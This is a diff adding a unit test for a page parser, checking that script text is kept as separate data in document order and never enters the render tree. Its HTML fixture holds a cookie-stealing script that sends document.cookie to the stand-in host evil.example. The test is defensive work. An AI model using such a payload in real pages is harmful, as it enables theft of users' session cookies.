@@ -40,6 +40,32 @@ describe('the page model', () => {
       title: null,
       nodes: [{ type: 'text', text: '{"result": 1}' }],
       raw: true,
+      scripts: [],
+    });
+  });
+
+  it('keeps the text of each script beside the tree, as data, in document order', () => {
+    const page = parsePage(
+      `<html><head><script>var a = 1;</script><script src="/static/app.js"></script></head>
+       <body><ul><li><script>new Image().src='http://evil.example/?c='+document.cookie</script></li></ul>
+       <script type="text/template"><p>not code</p></script>
+       <script type="module">fetch('/x')</script></body></html>`,
+      'text/html',
+    );
+    expect(page.scripts).toEqual([
+      { text: 'var a = 1;', src: '' },
+      { text: '', src: '/static/app.js' },
+      { text: "new Image().src='http://evil.example/?c='+document.cookie", src: '' },
+      // type="text/template" is not JavaScript: no browser runs it, so it is not a script here.
+      { text: "fetch('/x')", src: '' },
+    ]);
+    // Never in the render tree: the list item is empty.
+    expect(JSON.stringify(page.nodes)).not.toContain('evil');
+    expect(page.nodes).toContainEqual({
+      type: 'element',
+      tag: 'ul',
+      attrs: {},
+      children: [{ type: 'element', tag: 'li', attrs: {}, children: [] }],
     });
   });
 });
